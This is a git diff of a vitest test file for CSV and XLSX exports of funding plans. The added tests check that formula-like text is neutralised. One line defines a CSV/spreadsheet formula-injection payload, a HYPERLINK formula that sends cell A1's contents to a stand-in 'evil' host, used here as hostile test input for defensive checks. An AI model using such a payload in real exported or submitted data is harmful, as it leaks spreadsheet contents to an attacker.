@@ -1,13 +1,16 @@
 import { randomUUID } from "node:crypto";
 import { parse } from "csv-parse/sync";
 import ExcelJS from "exceljs";
+import { unzipSync } from "fflate";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { disconnectPrisma, prisma, type Tx } from "../../db/client.server.ts";
+import { defuseFormula } from "../csv-cell.ts";
 import { type DashboardScope, loadDashboard } from "./dashboard.server.ts";
 import {
   buildTable,
   centsFromEuroNumber,
   centsFromEuroText,
+  type ExportTable,
   euroText,
   TABLES,
   toCsv,
@@ -126,7 +129,8 @@ describe("exports", () => {
             expect(Number(fromCsv)).toBe(Number(cell));
             expect(fromXlsx).toBe(Number(cell));
           } else {
-            expect(fromCsv).toBe(cell === null ? "" : String(cell));
+            // The CSV defuses text ("-", no sector, becomes "'-"); the XLSX has no formulas to fear.
+            expect(fromCsv).toBe(cell === null ? "" : defuseFormula(String(cell)));
             expect(fromXlsx ?? null).toBe(cell === null ? null : String(cell));
           }
         });
@@ -151,5 +155,39 @@ describe("exports", () => {
     const xlsxPlans = await readXlsx(await toXlsx(plans));
     expect(centsFromEuroNumber(xlsxPlans[1]?.[5] as number)).toBe(windowPot?.disbursedCents);
     expect(windowPot?.disbursedCents).toBe(123_456_79n);
+  });
+
+  describe("with an applicant's formula as plan title and organisation name", () => {
+    const hostile = '=HYPERLINK("https://evil/?"&A1,"x")';
+    const table: ExportTable = {
+      name: "plannen",
+      title: "Plannen achter het bedrag",
+      columns: [
+        { header: "Titel", type: "text" },
+        { header: "Aanvrager", type: "text" },
+        { header: "Bedrag (EUR)", type: "euro" },
+        { header: "Aantal", type: "int" },
+      ],
+      rows: [[hostile, "-Opleidingsfonds", -10_000n, -3]],
+    };
+
+    it("defuses the text in the CSV and keeps the negative amount a number", () => {
+      const rows = parse(toCsv(table), { bom: true }) as string[][];
+      expect(rows[1]).toEqual([`'${hostile}`, "'-Opleidingsfonds", "-100.00", "-3"]);
+    });
+
+    it("writes the text to the XLSX as a text cell, never as a formula", async () => {
+      const buffer = await toXlsx(table);
+      const workbook = new ExcelJS.Workbook();
+      await workbook.xlsx.load(buffer as unknown as ArrayBuffer);
+      const cell = workbook.worksheets[0]?.getCell("A2");
+      expect(cell?.type).toBe(ExcelJS.ValueType.String);
+      expect(cell?.value).toBe(hostile);
+      const sheetXml = new TextDecoder().decode(
+        unzipSync(new Uint8Array(buffer))["xl/worksheets/sheet1.xml"],
+      );
+      expect(sheetXml).not.toContain("<f>");
+      expect(workbook.worksheets[0]?.getCell("C2").value).toBe(-100);
+    });
   });
 });
